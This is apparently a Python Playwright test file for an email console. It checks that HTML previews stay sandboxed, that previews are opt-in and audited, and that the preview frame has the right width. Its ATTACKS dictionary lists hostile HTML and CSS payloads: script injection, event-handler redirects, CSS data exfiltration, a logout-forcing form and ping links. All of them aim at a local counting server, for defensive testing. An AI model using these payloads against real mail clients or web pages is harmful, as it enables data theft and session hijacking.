"""Preview of an email in Chromium: its HTML has no effect outside of its frame, and no request leaves."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from uuid import UUID

import pytest
from playwright.async_api import Page, expect

from tests.browser.conftest import Visitor
from tests.browser.test_console import log_in
from tests.harness import Harness

pytestmark = pytest.mark.asyncio(loop_scope="session")

# Each tries to load something from URL, to leave the frame, or to change the page around it.
ATTACKS = {
    "script": """
<script>parent.document.title = "owned"; fetch("URL/script")</script><script src="URL/script.js"></script>
<img src=x onerror="fetch('URL/error')"><svg onload="location='URL/svg'"></svg>
<input autofocus onfocus="location='URL/focus'"><details open ontoggle="location='URL/toggle'">x</details>
<iframe src="javascript:top.location='URL/top'"></iframe>""",
    "remote image": """
<img src="URL/image"><img srcset="URL/set 1x"><picture><source srcset="URL/source"><img></picture>
<video poster="URL/poster" src="URL/video" autoplay></video><audio src="URL/audio" autoplay></audio>
<table background="URL/background"><tr><td>x</table><input type=image src="URL/input">""",
    "form": """
<form action="URL/form" target=_top><input name=token><button id=send>Send</button></form>
<form action="/console/logout" method=post target=_top><button id=logout>Log out</button></form>""",
    "meta refresh": """
<meta http-equiv=refresh content="0;url=URL/refresh"><META/http-equiv="refresh"/content="0;url=URL/slash">""",
    "CSS exfiltration": """
<style>
@import "URL/import"; @font-face { font-family: f; src: url("URL/font") }
body { font-family: f; background: url("URL/css") }
input[value^=a] { background: url("URL/exfiltrated") } li { list-style: url("URL/list") }
p:before { content: url("URL/content") } a { cursor: url("URL/cursor"), auto }
</style><input value=abc><li>x<p style="background: image-set('URL/inline' 1x)">x</p>""",
    "links": """
<link rel=stylesheet href="URL/sheet"><link rel=preconnect href="URL"><link rel=dns-prefetch href="URL">
<link rel=prefetch href="URL/prefetch"><link rel=preload as=image href="URL/preload"><LINK/rel=icon/href="URL/icon">
<link rel=modulepreload href="URL/module"><base href="URL/base/"><img src=relative>""",
    "frames": """
<iframe src="URL/frame"></iframe><iframe srcdoc="<img src='URL/srcdoc'>"></iframe>
<object data="URL/object"></object><embed src="URL/embed">""",
    "click": """
<a id=leave href="URL/click">Click</a> <a id=ping href="#" ping="URL/ping">Ping</a>
<a id=top href="URL/clicked" target=_top>Top</a> <a id=new href="URL/new" target=_blank>New</a>""",
}
CLICKED = ("#send", "#logout", "#ping", "#top", "#new", "#leave")  # elements of the attacks


@asynccontextmanager
async def counting_server() -> AsyncIterator[tuple[str, list[str]]]:
    """Server on loopback: its URL, and what its connections began with."""
    seen: list[str] = []

    async def count(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        seen.append("a connection")
        seen.append((await reader.readline()).decode("ascii", "replace"))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        writer.close()

    server = await asyncio.start_server(count, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", seen


async def open_preview(harness: Harness, page: Page, html: str) -> UUID:
    """Send an email with this HTML, open its preview and wait for the text that ends it."""
    id = await harness.post(subject="Newsletter", html=f"{html}<p id=last>The end of the email</p>", text="Plain text")
    await harness.until(id, "done")
    await page.goto(f"/console/emails/{id}")
    await page.get_by_role("link", name="Preview the HTML").click()
    await expect(page.frame_locator("iframe").locator("#last")).to_have_text("The end of the email")
    return id


@pytest.mark.parametrize("scripted", [True, False], ids=["with JavaScript", "without JavaScript"])
async def test_hostile_html_has_no_effect_outside_of_its_frame(
    harness: Harness, visitor: Visitor, *, scripted: bool
) -> None:
    """No attack loads anything, changes the page, ends the session or leaves the frame, not even by a click."""
    async with counting_server() as (url, seen):
        page = await log_in(await visitor(java_script_enabled=scripted))
        for name, attack in ATTACKS.items():
            await open_preview(harness, page, attack.replace("URL", url))
            address, title = page.url, await page.title()
            frame = page.frame_locator("iframe")
            for target in CLICKED:
                if await frame.locator(target).count():
                    await frame.locator(target).click()
            await expect(page.get_by_role("heading", level=1)).to_have_text("Preview")
            assert (page.url, await page.title()) == (address, title), name
            assert len(page.context.pages) == 1, name
            await page.goto("/console/emails")  # what the frame began is over
            assert seen == [], name
        await expect(page.get_by_role("button", name="Log out")).to_be_visible()


async def test_the_counting_server_counts(visitor: Visitor) -> None:
    """A browser that opens one of its addresses is seen."""
    async with counting_server() as (url, seen):
        page = await visitor()
        await page.goto(f"{url}/image")
        assert "GET /image HTTP/1.1\r\n" in seen


async def test_the_preview_is_opt_in_and_audited(harness: Harness, visitor: Visitor) -> None:
    """The page of the email does not record a view; the preview and the file do, once each."""
    page = await log_in(await visitor())
    file = {"filename": "logo.png", "content": _PIXEL, "content_id": "logo"}
    id = await harness.post(html="<img id=inline src=cid:logo><p id=last>Hello</p>", attachments=[file])
    await harness.until(id, "done")
    await page.goto(f"/console/emails/{id}")
    await expect(page.get_by_role("heading", name="Content")).to_be_visible()
    assert await views(harness) == []
    await page.get_by_role("link", name="Preview the HTML").click()
    inline = page.frame_locator("iframe").locator("#inline")
    await expect(inline).to_be_visible()
    assert await inline.evaluate("image => image.naturalWidth") == 1
    await page.get_by_role("link", name="Text", exact=True).click()
    await expect(page.frame_locator("iframe").locator("body")).to_contain_text("Hello")
    await page.go_back()
    await page.goto(f"/console/emails/{id}")
    async with page.expect_download() as started:
        await page.get_by_role("link", name="Download as .eml").click()
    download = await started.value
    assert download.suggested_filename == f"{id}.eml"
    assert (await download.path()).read_bytes() == harness.simulator.messages[0].content
    assert {"html", "text", "message"} == {*await views(harness)}


async def test_the_width_of_a_preview(harness: Harness, visitor: Visitor) -> None:
    """The frame of an HTML email is as wide as a phone, without JavaScript; it stays a sandbox without rights."""
    page = await log_in(await visitor(java_script_enabled=False))
    id = await harness.post(html="<p>Hello</p>")
    await harness.until(id, "done")
    await page.goto(f"/console/emails/{id}/preview/html")
    frame = page.locator("iframe")
    wide = await frame.evaluate("frame => frame.offsetWidth")
    await page.get_by_label("Phone").check()
    assert await frame.evaluate("frame => frame.offsetWidth") == 375 < wide
    assert await frame.get_attribute("sandbox") == ""


async def views(harness: Harness) -> list[str]:
    """Return what of the content was read, newest first."""
    entries = (await harness.caller.get("/audit")).json()["data"]
    return [one["details"]["what"] for one in entries if one["action"] == "email.content_read"]


_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
